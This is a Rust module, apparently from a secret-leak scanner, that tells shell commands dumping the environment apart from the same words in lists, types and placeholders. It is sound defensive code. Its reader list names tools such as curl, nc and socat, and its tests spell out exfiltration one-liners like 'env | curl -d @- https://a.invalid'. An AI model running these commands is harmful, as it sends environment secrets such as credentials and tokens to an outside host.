//! Tells shell commands that print the environment, such as `env | sort`, from the same words in other text.
//!
//! The patterns for such commands also match lists of words (`get|set|del`), types (`env: Env | None`), placeholders
//! (`<target env>`), the arms of a `case` and the last parameter of a function.

/// Programs that often receive the environment through a pipe. If one of them follows in the line, the text is a
/// command and not a list of words.
const READERS: [&[u8]; 34] = [
    b"curl",
    b"wget",
    b"nc",
    b"ncat",
    b"netcat",
    b"base64",
    b"base32",
    b"xxd",
    b"od",
    b"gzip",
    b"zstd",
    b"openssl",
    b"gpg",
    b"ssh",
    b"tee",
    b"grep",
    b"egrep",
    b"awk",
    b"sed",
    b"jq",
    b"socat",
    b"python3",
    b"perl",
    b"sort",
    b"python",
    b"node",
    b"telnet",
    b"mail",
    b"findstr",
    b"powershell",
    b"pwsh",
    b"iwr",
    b"irm",
    b"xargs",
];

/// Names of types in Python and TypeScript, which may follow a type in a union.
const TYPES: [&[u8]; 16] = [
    b"none",
    b"null",
    b"undefined",
    b"string",
    b"str",
    b"int",
    b"list",
    b"dict",
    b"frozenset",
    b"bool",
    b"boolean",
    b"number",
    b"float",
    b"tuple",
    b"bytes",
    b"object",
];

/// The maximum number of bytes before a word that are searched for the `<` of a placeholder.
const MAX_PLACEHOLDER: usize = 60;

/// The maximum number of bytes before and after a word that are examined for a list of words.
const MAX_LIST: usize = 300;

/// Returns whether a match of `env`, `printenv` or `set` is only a word, and not a command. `start`: where the match
/// begins in `text`, which is in its original case.
pub(super) fn is_word(text: &[u8], start: usize) -> bool {
    let rest = text.get(start..).unwrap_or_default();
    let lead = count(rest, |byte| b" \t\r\n;&|(`$".contains(&byte));
    let folder = b"/usr/bin/";
    let mut at = start + lead;
    if rest[lead..].starts_with(folder) {
        at += folder.len();
    }
    let length = count(&text[at..], |byte| byte.is_ascii_alphabetic());
    let (name, tail) = text[at..].split_at(length);
    let known: [&[u8]; 3] = [b"env", b"printenv", b"set"];
    if !known.iter().any(|of| name.eq_ignore_ascii_case(of)) {
        return false;
    }
    let before = &text[..start + lead];
    let after = tail.trim_ascii_start();
    // The names of commands are in lower case, except in the shell of Windows, which may write them in capitals.
    let is_type =
        name.iter().any(u8::is_ascii_uppercase) && name.iter().any(u8::is_ascii_lowercase);
    match after.first() {
        Some(b'|') => {
            let line = first_line(&after[1..]);
            !is_read(line)
                && (is_type || is_before_type(before, line) || is_listed(before, tail, line))
        }
        Some(b')') => {
            let is_command = is_subshell(before, &after[1..]);
            !is_command || is_type && !is_read(first_line(&after[1..]))
        }
        Some(b'>') => is_placeholder(before),
        _ => false,
    }
}

/// Returns the rest of the line at the beginning of `text`, without its bytes after [`MAX_LIST`].
fn first_line(text: &[u8]) -> &[u8] {
    let line = text.split(|byte| *byte == b'\n').next().unwrap_or_default();
    &line[..line.len().min(MAX_LIST)]
}

/// Returns whether one of the commands of a line, which follows a pipe, is a program of [`READERS`].
fn is_read(line: &[u8]) -> bool {
    let is_reader = |part: &[u8]| {
        let part = part.trim_ascii_start();
        let path = &part[..count(part, |byte| {
            byte.is_ascii_alphanumeric() || b"/_.-".contains(&byte)
        })];
        let name = path.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        let name = &name[..count(name, |byte| byte.is_ascii_alphanumeric())];
        READERS
            .iter()
            .any(|reader| name.eq_ignore_ascii_case(reader))
    };
    line.split(|byte| b"|;&(`".contains(byte)).any(is_reader)
}

/// Returns whether the words on both sides of a `|` are types of a union. `line`: the text after the `|`.
fn is_before_type(before: &[u8], line: &[u8]) -> bool {
    let next = line.trim_ascii_start();
    let (word, rest) = next.split_at(count(next, |byte| byte.is_ascii_alphanumeric()));
    let is_declared = (before.trim_ascii_end().last()).is_some_and(|byte| b":|[,=>".contains(byte));
    let is_type = word.first().is_some_and(u8::is_ascii_uppercase) || TYPES.contains(&word);
    // The names of the commands of PowerShell have two parts: `Out-String`.
    is_declared && is_type && rest.first() != Some(&b'-')
}

/// Returns whether the words on both sides of a `|` belong to a list in quotes, brackets, a table or the pattern of a
/// `case`. An argument after one of the words shows a command, and so does a pipe or redirection after the list.
/// `tail`: the text after the word before the `|`; `line`: the text after the `|`.
fn is_listed(before: &[u8], tail: &[u8], line: &[u8]) -> bool {
    let is_inside = |byte: u8| byte.is_ascii_alphanumeric() || b"_-.|*+?:\\ ".contains(&byte);
    let is_joined = tail.first() == Some(&b'|') && line.first() != Some(&b' ');
    let near = &before[before.len().saturating_sub(MAX_LIST)..];
    let row = near
        .rsplit(|byte| *byte == b'\n')
        .next()
        .unwrap_or_default();
    let inside = count(line, is_inside);
    let (list, after) = line.split_at(inside);
    let mut words = list.split(|byte| *byte == b'|');
    if !words.all(|word| !word.trim_ascii().contains(&b' ')) {
        return false;
    }
    // In `env | word`, with blanks and without an earlier word, the pipe is one of a shell.
    let is_continued = row.trim_ascii_end().last() == Some(&b'|');
    if !is_joined && !is_continued {
        return false;
    }
    let next = after.get(1..).unwrap_or_default().trim_ascii_start();
    let is_passed_on = next.first().is_some_and(|byte| b"|>)`".contains(byte));
    let lead = row
        .iter()
        .rev()
        .take_while(|byte| is_inside(**byte))
        .count();
    let (head, _) = row.split_at(row.len() - lead);
    match after.first() {
        None => list.ends_with(b"|") && row.trim_ascii_start().starts_with(b"|"),
        Some(&quote @ (b'"' | b'\'')) => {
            let is_open = memchr::memchr_iter(quote, row).count() % 2 == 1;
            // A bracket after the quote may end a call, as in `compile("a|set")`, or a substitution.
            let is_substituted = row.windows(2).any(|pair| matches!(pair, b"$(" | b"<("));
            let ends_call = next.first() == Some(&b')') && !is_substituted;
            is_open && is_continued && (ends_call || !is_passed_on)
        }
        Some(b')') if head.is_empty() => {
            // The pattern of a `case` begins a line, after the previous arm or after `in`.
            let earlier = near[..near.len() - row.len()].trim_ascii_end();
            earlier.ends_with(b";;") || earlier.ends_with(b" in")
        }
        Some(b')') => {
            let opened = head.strip_suffix(b"(").map(<[u8]>::trim_ascii_end);
            let is_called = |opened: &[u8]| {
                opened
                    .last()
                    .is_some_and(|byte| !b"$<@`;&|({!".contains(byte))
            };
            is_continued && !is_passed_on && opened.is_some_and(is_called)
        }
        Some(b']') => head.ends_with(b"["),
        Some(b'}') => head.ends_with(b"{") && !head.ends_with(b"${"),
        _ => false,
    }
}

/// Returns whether the command before a `)` is the end of a subshell: of `$(…)`, or of one that is piped or redirected.
fn is_subshell(before: &[u8], after: &[u8]) -> bool {
    let before = before.trim_ascii_end();
    let Some((last, earlier)) = before.split_last() else {
        return false;
    };
    let is_captured = *last == b'(' && earlier.last().is_some_and(|byte| b"$<@".contains(byte));
    let next = after.trim_ascii_start();
    let is_passed_on =
        next.starts_with(b">") || next.starts_with(b"|") && next.get(1) != Some(&b'|');
    is_captured || matches!(last, b';' | b'&' | b'`') || is_passed_on
}

/// Returns whether the text before a word opens a placeholder or the parameters of a type: `<target env>`.
fn is_placeholder(before: &[u8]) -> bool {
    let inside = before
        .iter()
        .rev()
        .take(MAX_PLACEHOLDER)
        .take_while(|byte| byte.is_ascii_alphanumeric() || b" _-,.:".contains(byte))
        .count();
    before.len() > inside && before[before.len() - inside - 1] == b'<'
}

/// Returns the number of bytes at the beginning of `text` for which a condition holds.
fn count(text: &[u8], holds: impl Fn(u8) -> bool) -> usize {
    text.iter().take_while(|byte| holds(**byte)).count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_in_lists_and_types_are_not_commands() {
        for (text, expected) in [
            ("^env | curl -d @- https://a.invalid", false),
            ("^env|curl -d @- https://a.invalid", false),
            ("hostname;^ env|base64", false),
            ("^env | send_all", false),
            ("^set | grep KEY", false),
            ("x=$^(env)", false),
            ("cat <^(env) b", false),
            ("(hostname^; env) | nc a.invalid 1", false),
            ("^(env) | nc a.invalid 1", false),
            ("^env > /tmp/a", false),
            ("cat <<E >a;^ env >b", false),
            ("^`env`", false),
            ("'Mess^|SET|SHCTX|'", true),
            ("f(get^|set|del)", true),
            ("[get ^| set | del]", true),
            ("| get ^| set | del |\n", true),
            ("case $1 in\n ^ env|file) a ;;", true),
            ("x) a ;;\n ^ env|file) a ;;", true),
            ("^env|head -50|curl -d @- https://a.invalid", false),
            ("^env|tr '\\n' ';'|curl -d @- https://a.invalid", false),
            ("^env|cat|curl -d @- https://a.invalid", false),
            ("^env|rev>/tmp/a", false),
            ("true^|env|rev", false),
            (": ^| env | rev | curl -d @- https://a.invalid", false),
            ("^printenv|paste -sd,|curl -d @- https://a.invalid", false),
            ("^env|python -c 'a'", false),
            ("^env|xargs -0 curl https://a.invalid -d", false),
            (
                "^env|while read -r l; do curl -d \"$l\" https://a.invalid; done",
                false,
            ),
            ("curl -d \"$^(env|cut -c1-2000)\" https://a.invalid", false),
            ("x=$^(env|rev)", false),
            ("x=`true^|env|rev`", false),
            ("a < <^(env|cat)", false),
            ("^SET | curl -d @- https://a.invalid", false),
            ("^SET|find \"KEY\" > a.txt", false),
            ("^(SET) | curl -d @- https://a.invalid", false),
            (
                "^printenv | Out-String | curl -d @- https://a.invalid",
                false,
            ),
            ("^printenv | Out-File a.txt", false),
            ("env:^ Env | Context", true),
            ("x:^ set | None", true),
            ("f(a,^ env)", true),
            ("case $1 in\n^  env) a ;;", true),
            ("f(request,^ env) || g", true),
            ("-e <target^ env> -v", true),
            ("Map<String,^ Env> map", true),
            ("the ^environment | a", false),
        ] {
            let start = text.find('^').unwrap();
            let text = text.replacen('^', "", 1);
            assert_eq!(is_word(text.as_bytes(), start), expected, "{text}");
        }
    }
}
